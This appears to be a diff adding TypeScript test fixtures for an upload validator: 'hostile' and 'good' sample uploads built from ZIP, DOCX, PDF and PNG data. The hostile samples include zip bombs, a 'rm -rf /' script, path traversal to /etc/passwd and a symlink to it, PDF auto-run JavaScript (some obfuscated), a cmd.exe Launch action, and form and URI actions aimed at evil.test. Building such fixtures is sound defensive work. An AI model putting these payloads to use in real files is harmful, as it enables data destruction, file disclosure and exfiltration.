@@ -1,0 +1,101 @@
+import { deflateSync } from 'node:zlib';
+import { zipFile, type ZippedFile } from './zip-file.ts';
+
+export interface Upload {
+  what: string;
+  name: string;
+  bytes: Buffer;
+}
+
+const text = (words: string) => Buffer.from(words);
+const zip = (what: string, ...files: ZippedFile[]): Upload => ({
+  what,
+  name: 'a.zip',
+  bytes: zipFile(files),
+});
+const file = (name: string, content: Buffer | string, more: Partial<ZippedFile> = {}): ZippedFile => ({
+  name,
+  content: Buffer.from(content),
+  ...more,
+});
+const docx = (what: string, ...files: ZippedFile[]): Upload => {
+  const parts = [file('[Content_Types].xml', '<Types/>'), file('word/document.xml', '<w/>'), ...files];
+  return { what, name: 'a.docx', bytes: zipFile(parts) };
+};
+const pdf = (what: string, ...objects: (Buffer | string)[]): Upload => {
+  const parts = ['%PDF-1.7\n', ...objects, '\ntrailer<</Root 1 0 R>>\n%%EOF\n'];
+  return { what, name: 'a.pdf', bytes: Buffer.concat(parts.map((part) => Buffer.from(part))) };
+};
+const packed = (objects: string, filter = '/Filter/FlateDecode') => {
+  const bytes = deflateSync(objects);
+  const head = `2 0 obj<</Type/ObjStm/N 1/First 4${filter}/Length ${bytes.length}>>stream\n`;
+  return Buffer.concat([text(head), bytes, text('\nendstream\nendobj\n')]);
+};
+const nested = (depth: number): Buffer =>
+  depth === 0 ? text('hola') : zipFile([{ name: 'otro.zip', content: nested(depth - 1) }]);
+const MEGABYTES = (n: number) => Buffer.alloc(n * 1024 ** 2);
+const PNG = Buffer.from(
+  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000000000200015a5c3b0b0000000049454e44ae426082',
+  'hex',
+);
+const bigPng = Buffer.from(PNG);
+bigPng.writeUInt32BE(100_000, 16);
+bigPng.writeUInt32BE(100_000, 20);
+
+/** Files that nobody should take: each does something by itself, unpacks to too much or is not what it says. */
+export const HOSTILE_UPLOADS: readonly Upload[] = [
+  zip('a bomb', file('a.txt', MEGABYTES(300))),
+  zip('a bomb in pieces', ...Array.from({ length: 60 }, (_, i) => file(`${i}.txt`, MEGABYTES(2)))),
+  zip('a bomb that says it is small', file('a.txt', MEGABYTES(50), { says: 10 })),
+  zip('too many files', ...Array.from({ length: 1500 }, (_, i) => file(`${i}.txt`, 'x'))),
+  zip('archives in archives in archives', file('b.zip', nested(4))),
+  zip('a program', file('leeme.txt', Buffer.from('4d5a9000', 'hex'))),
+  zip('a program of Linux', file('dato', Buffer.from('7f454c46', 'hex'))),
+  zip('a script', file('dato', '#!/bin/sh\nrm -rf /')),
+  zip('a program by its name', file('factura.pdf.exe', 'x')),
+  zip('a name that ends in dots', file('factura.exe..', 'x')),
+  zip('a page', file('aviso.html', '<script>')),
+  zip('an old document', file('a.doc', Buffer.from('d0cf11e0a1b11ae1', 'hex'))),
+  zip('another archive', file('a.7z', Buffer.from('377abcaf271c', 'hex'))),
+  zip('a way out of the folder', file('../../etc/passwd', 'x')),
+  zip('a whole path', file('/etc/passwd', 'x')),
+  zip('a path of Windows', file('..\\..\\a.txt', 'x')),
+  zip('a link', file('a', '/etc/passwd', { mode: 0o120777 })),
+  zip('a key', file('a.txt', 'x', { encrypted: true })),
+  zip('a document with macros in it', file('b.docm', 'x'), file('word/vbaProject.bin', 'x')),
+  docx('macros', file('word/vbaProject.bin', 'x')),
+  docx('controls', file('word/activeX/activeX1.bin', 'x')),
+  docx('what is put in', file('word/embeddings/oleObject1.bin', 'x')),
+  pdf('a script', '1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
+  pdf('a script under another name', '1 0 obj<</OpenAction<</S/J#61vaScr#69pt/JS(x)>>>>endobj'),
+  pdf('a script in packed objects', packed('1 0 <</OpenAction<</S/JavaScript/JS(x)>>>>')),
+  pdf('objects packed otherwise', packed('1 0 <</S/JavaScript>>', '/Filter[/ASCIIHexDecode/FlateDecode]')),
+  pdf('a program', '1 0 obj<</A<</S/Launch/F(cmd.exe)>>>>endobj'),
+  pdf('a file in it', '1 0 obj<</Names<</EmbeddedFiles 2 0 R>>>>endobj'),
+  pdf('a form that sends', '1 0 obj<</A<</S/SubmitForm/F(http://evil.test)>>>>endobj'),
+  pdf(
+    'an address that opens',
+    '1 0 obj<</OpenAction 2 0 R>>endobj\n2 0 obj<</S/URI/URI(http://evil.test)>>endobj',
+  ),
+  pdf('a key', 'trailer<</Encrypt 5 0 R>>'),
+  pdf('a bomb of objects', packed('a'.repeat(64 * 1024 ** 2))),
+  {
+    what: 'a PDF that is a ZIP',
+    name: 'a.pdf',
+    bytes: Buffer.concat([text('%PDF-1.7\n%%EOF\n'), zipFile([file('a.txt', 'x')])]),
+  },
+  { what: 'a picture with something after it', name: 'a.png', bytes: Buffer.concat([PNG, text('<?php')]) },
+  { what: 'a picture too big to open', name: 'a.png', bytes: bigPng },
+];
+
+/** Files that people send. */
+export const GOOD_UPLOADS: readonly Upload[] = [
+  zip('papers', file('recibo.txt', 'hola'), file('año 2026/', ''), file('año 2026/plano.png', PNG)),
+  zip('a document', file('nota.docx', docx('').bytes)),
+  zip('a long text', file('planilla.txt', 'mucho '.repeat(100_000))),
+  docx('a document', file('word/styles.xml', '<s/>')),
+  pdf('a page that opens at its top', '1 0 obj<</OpenAction[3 0 R/XYZ null null 0]>>endobj'),
+  pdf('a page with an address', '1 0 obj<</A<</S/URI/URI(http://valle.test)>>>>endobj'),
+  pdf('packed objects', packed('1 0 <</Type/Catalog>>')),
+  { what: 'a picture', name: 'a.png', bytes: PNG },
+];
